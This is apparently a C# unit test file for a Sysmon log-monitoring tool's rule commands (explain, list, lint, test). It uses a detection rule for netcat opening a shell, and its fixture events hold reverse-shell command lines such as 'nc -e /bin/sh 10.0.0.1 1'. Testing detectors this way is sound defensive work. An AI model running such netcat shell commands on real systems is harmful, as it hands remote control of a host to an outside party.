using System.Globalization;
using System.Xml.Linq;
using SysmonWatch.Daemon.Commands;
using SysmonWatch.Daemon.Commands.Rules;

namespace SysmonWatch.Daemon.Tests.Commands;

/// <summary>explain, rules and test: what a rule author asks.</summary>
public sealed class RuleCommandsTests : IDisposable
{
    const string Netcat = """
        title: Netcat opens a shell
        id: 6f1c2f4e-0c7e-4a0e-9d1c-3f1de4d5a001
        level: high
        author: somebody
        description: A test
        logsource: {product: linux, category: process_creation}
        detection:
          selection_img:
            Image|endswith: /nc
          selection_arg:
            CommandLine|contains: [' -e ', ' -c ']
          filter_own:
            ParentImage: /usr/bin/tester
          condition: all of selection_* and not 1 of filter_*
        """;

    readonly string _directory = Directory.CreateTempSubdirectory("sysmonwatch-rules-").FullName;
    readonly StringWriter _output = new(CultureInfo.InvariantCulture);
    readonly StringWriter _errors = new(CultureInfo.InvariantCulture);

    public void Dispose() => Directory.Delete(_directory, recursive: true);

    [Fact]
    public void Explains_a_match_with_the_value_the_pattern_and_the_repair()
    {
        string e = File("e.json", """{"EventID": 1, "Image": "/usr/bin/nc.openbsd", "CommandLine": "nc -e /bin/sh 10.0.0.1 1"}""");

        Assert.Equal(ExitCodes.Success, Explain(File("nc.yml", Netcat), e));

        string text = _output.ToString();
        Assert.Contains("matches, because", text, StringComparison.Ordinal);
        Assert.Contains("[x] Image endswith '/nc'   is \"/usr/bin/nc.openbsd\"; endswith '/nc' matches \"/usr/bin/nc\" (image_as_called)", text, StringComparison.Ordinal);
        Assert.Contains("[ ] ParentImage", text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("""{"EventID": 1, "Image": "/usr/bin/nc", "CommandLine": "nc -l"}""", "false: CommandLine contains ' -e ' or contains ' -c '   is \"nc -l\"")]
    [InlineData("""{"EventID": 1, "Image": "/usr/bin/nc", "CommandLine": "nc -e x", "ParentImage": "/usr/bin/tester"}""", "true: ParentImage '/usr/bin/tester'   is \"/usr/bin/tester\"")]
    [InlineData("""{"EventID": 3, "Image": "/usr/bin/nc", "CommandLine": "nc -e x"}""", "false: log source category: process_creation, product: linux   the event's is category: network_connection")]
    [InlineData("""{"EventID": 1, "CommandLine": "nc -e x"}""", "false: Image endswith '/nc'   the event has no such field")]
    [InlineData("""{"event_id":1,"record_id":7,"fields":{"Image":"/usr/bin/nc","CommandLine":"nc \u001b[2J"}}""", "is \"nc \\x1b[2J\"")]
    public void Explains_why_a_rule_does_not_match(string json, string reason)
    {
        Assert.Equal(ExitCodes.Failure, Explain(File("nc.yml", Netcat), File("e.json", json)));

        Assert.Contains("does not match, because", _output.ToString(), StringComparison.Ordinal);
        Assert.Contains(reason, _output.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public void Explains_a_rule_by_its_id_over_a_log_line()
    {
        File("nc.yml", Netcat);
        string line = File("line", "Nov 24 02:40:00 web sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>1</EventID><EventRecordID>5</EventRecordID>"
            + "<Computer>web</Computer></System><EventData><Data Name=\"Image\">/usr/bin/nc</Data><Data Name=\"CommandLine\">nc -c sh</Data></EventData></Event>\n");

        Assert.Equal(ExitCodes.Success, Explain("6F1C2F4E-0c7e-4a0e-9d1c-3f1de4d5a001", line, _directory));
    }

    [Theory]
    [InlineData("nothing-like-it", "{}", ExitCodes.Usage, "neither a file nor the id")]
    [InlineData("Netcat opens a shell", "not an event", ExitCodes.NoInput, "there is no event in it")]
    [InlineData("Netcat opens a shell", "{\"a\": ", ExitCodes.NoInput, "not JSON")]
    public void Says_what_cannot_be_explained(string rule, string e, int code, string message)
    {
        File("nc.yml", Netcat);

        Assert.Equal(code, Explain(rule, File("e.json", e), _directory));
        Assert.Contains(message, _errors.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public void Lists_and_shows_rules()
    {
        File("nc.yml", Netcat);

        Assert.Equal(ExitCodes.Success, RulesCommand.List([_directory], null, _output, _errors));
        Assert.Matches("high +process_creation +6f1c2f4e.* Netcat opens a shell", _output.ToString());
        Assert.Equal(ExitCodes.Success, RulesCommand.Show("netcat opens a shell", [_directory], null, _output, _errors));
        Assert.Contains("author:       somebody", _output.ToString(), StringComparison.Ordinal);
        Assert.Contains("CommandLine contains ' -e '", _output.ToString(), StringComparison.Ordinal);
        Assert.Equal(ExitCodes.Failure, RulesCommand.Show("other", [_directory], null, _output, _errors));
    }

    [Fact]
    public void Lint_advises_and_fails_only_where_a_rule_is_refused()
    {
        File("a.yml", "title: bare\nlogsource: {product: windows}\ndetection:\n  s:\n    A: b\n  condition: s\n");

        Assert.Equal(ExitCodes.Success, RulesCommand.Lint([_directory], null, _output, _errors));
        foreach (string advice in new[] { "has no UUID", "has no description", "has no author", "no event of Sysmon" }) Assert.Contains(advice, _output.ToString(), StringComparison.Ordinal);

        File("b.yml", "title: bad\ndetection:\n  s:\n    A|foo: b\n  condition: s\n");
        Assert.Equal(ExitCodes.Failure, RulesCommand.Lint([_directory], null, _output, _errors));
    }

    [Fact]
    public void Runs_the_tests_beside_rules_and_reports_them_as_text_and_JUnit()
    {
        File("nc.yml", Netcat);
        File("nc.test.yml", """
            match:
              - {EventID: 1, Image: /usr/bin/nc, CommandLine: nc -e /bin/sh}
            no_match:
              - {EventID: 1, Image: /usr/bin/nc, CommandLine: nc -l}
              - {EventID: 1, Image: /usr/bin/nc, CommandLine: nc -e x, ParentImage: /usr/bin/tester}
            """);
        string junit = Path.Combine(_directory, "result.xml");

        Assert.Equal(ExitCodes.Success, TestCommand.Run(_directory, junit, _output, _errors));
        Assert.Contains("1 rules, 3 events: all as they must be.", _output.ToString(), StringComparison.Ordinal);
        Assert.Equal(3, XDocument.Load(junit).Descendants("testcase").Count());

        File("nc.test.yml", "match:\n  - {EventID: 1, Image: /usr/bin/nc, CommandLine: \"nc \\e\"}\n");
        Assert.Equal(ExitCodes.Failure, TestCommand.Run(_directory, junit, _output, _errors));
        Assert.Contains("match[0]: does not match and must, because", _output.ToString(), StringComparison.Ordinal);
        Assert.Contains("CommandLine", Assert.Single(XDocument.Load(junit).Descendants("failure")).Value, StringComparison.Ordinal);
    }

    [Fact]
    public void Tests_are_run_with_the_placeholders_and_repairs_of_a_configuration_that_is_named()
    {
        File("sh.yml", "title: Shells\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|expand|endswith: '%shells%'\n  condition: s\n");
        File("sh.test.yml", "match:\n  - {EventID: 1, Image: /bin/dash, CommandLine: dash}\nno_match:\n  - {EventID: 1, Image: /bin/bash, CommandLine: sh}\n");

        Assert.Equal(ExitCodes.Failure, TestCommand.Run(_directory, null, _output, _errors));
        Assert.Contains("the placeholder %shells% has no values", _output.ToString(), StringComparison.Ordinal);
        string all = File("all.yaml", "rules:\n  placeholders:\n    shells: [/sh, /dash]\n");
        Assert.Equal(ExitCodes.Failure, TestCommand.Run(_directory, null, _output, _errors, all));
        string written = File("written.yaml", "rules:\n  placeholders:\n    shells: [/sh, /dash]\n  repairs: {image_as_called: false}\n");
        Assert.Equal(ExitCodes.Success, TestCommand.Run(_directory, null, _output, _errors, written));
        Assert.Equal(ExitCodes.Configuration, TestCommand.Run(_directory, null, _output, _errors, File("wrong.yaml", "rule: x\n")));
    }

    [Theory]
    [InlineData("matches: []", "1:1: unknown key 'matches'")]
    [InlineData("match: {}", "1:8: 'match' must be a list")]
    [InlineData("match: []", "it has no events")]
    [InlineData("match:\n  - nonsense", "2:5: there is no event in it")]
    [InlineData("match:\n  - {Image: [a]}", "2:13: a field has one value")]
    [InlineData("a: [", "not YAML")]
    public void Says_what_is_wrong_with_a_test_file(string tests, string problem)
    {
        File("nc.yml", Netcat);
        File("nc.test.yml", tests);

        Assert.Equal(ExitCodes.Failure, TestCommand.Run(_directory, null, _output, _errors));
        Assert.Contains(problem, _output.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public void A_test_without_its_rule_fails()
    {
        File("gone.test.yml", "match: [{A: b}]");

        Assert.Equal(ExitCodes.Failure, TestCommand.Run(_directory, null, _output, _errors));
        Assert.Contains("there is no rule", _output.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public void List_and_show_say_that_a_path_is_not_there()
    {
        Assert.Equal(ExitCodes.Failure, RulesCommand.List(["/nonexistent"], null, _output, _errors));
        Assert.StartsWith("/nonexistent:1:1: error: ", _errors.ToString(), StringComparison.Ordinal);

        Assert.Equal(ExitCodes.Failure, RulesCommand.Show("x", ["/nonexistent"], null, _output, _errors));
        Assert.Equal(2, _errors.ToString().Split("/nonexistent:1:1: error: ").Length - 1);
    }

    int Explain(string rule, string e, params string[] rules) => ExplainCommand.Run(rule, e, rules, null, _output, _errors);

    string File(string name, string text)
    {
        string path = Path.Combine(_directory, name);
        System.IO.File.WriteAllText(path, text);
        return path;
    }
}
